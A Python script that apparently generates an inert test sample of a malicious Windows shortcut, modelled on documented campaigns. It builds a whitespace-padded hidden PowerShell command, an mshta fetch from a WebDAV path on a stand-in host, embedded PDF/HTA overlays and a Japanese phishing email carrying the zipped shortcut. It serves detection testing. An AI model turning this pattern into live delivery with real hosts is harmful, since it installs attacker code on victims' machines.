"""A shortcut with the icon of a document, whose command stands behind a thousand blanks and
cuts a document and a page out of the shortcut itself.  Inert: hosts are .invalid.
Scenario: F-Secure 2013 (取材依頼書), Trend Micro ZDI-CAN-25373, MITRE ATT&CK T1027.009, T1027.012."""
import base64

from kit import *
from kit.lnk import link_info

CMD = "C:\\Windows\\System32\\cmd.exe"


def make():
    hidden = base64.b64encode("Write-Output 'https://load.example.invalid/Stage'".encode("utf-16-le")).decode()
    first = lnk(" " * 1000 + "/c powershell -w hidden -enc " + hidden + " & mshta \\\\192.0.2.1@8080\\DavWWWRoot\\a.hta",
                target=CMD, info=link_info(CMD, serial=0xCAFE1234), workdir="%TEMP%", icon="%SystemRoot%\\System32\\shell32.dll",
                icon_index=1, machine="desktop-k3q0v1", env="%ComSpec%", parsing=CMD,
                overlay=b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n" + bytes(600) + b"<html><hta:application id='a'><script language='vbscript'>' nothing\n</script></html>\n")
    broken = lnk("/c echo", target=CMD)[:120]
    z = Zip().add("取材依頼書.lnk", first, charset="cp932").add("追加.lnk", broken, charset="cp932").bytes()
    return (Mail("取材のお願い", "kisha@press.example.jp", charset="utf-8").text("取材をお願いしたく、依頼書をお送りします。\n")
            .attach("取材依頼書.zip", z).bytes())
